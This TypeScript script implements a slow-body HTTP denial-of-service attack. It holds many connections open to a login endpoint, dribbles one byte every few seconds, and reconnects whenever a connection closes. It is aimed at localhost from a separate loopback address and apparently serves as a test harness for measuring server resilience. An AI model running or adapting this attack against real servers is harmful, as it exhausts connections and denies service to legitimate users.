// An attacker in a process of its own: so many connections from one address, each with a request whose body comes a byte at a time, opened again when it is closed.
import { connect } from 'node:net'

/** Not the address of those who measure: all of 127.0.0.0/8 is this machine. */
const ADDRESS = '127.0.0.2'
const BYTE_EVERY_MS = 4_000
const AGAIN_MS = 5_000
const HEAD = 'POST /api/auth/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n'

const [port, count] = process.argv.slice(2).map(Number)
let dialled = 0

function attack(): void {
  dialled += 1
  const socket = connect({ port: port ?? 0, host: '127.0.0.1', localAddress: ADDRESS }, () => socket.write(HEAD))
  const bytes = setInterval(() => socket.write('{'), BYTE_EVERY_MS)
  socket.on('error', () => undefined)
  socket.on('close', () => {
    clearInterval(bytes)
    setTimeout(attack, AGAIN_MS)
  })
}

for (let index = 0; index < (count ?? 0); index += 1) setTimeout(attack, (index * AGAIN_MS) / (count ?? 1))
setTimeout(() => console.log('attacking'), AGAIN_MS)
process.on('SIGTERM', () => {
  console.log(String(dialled))
  process.exit(0)
})
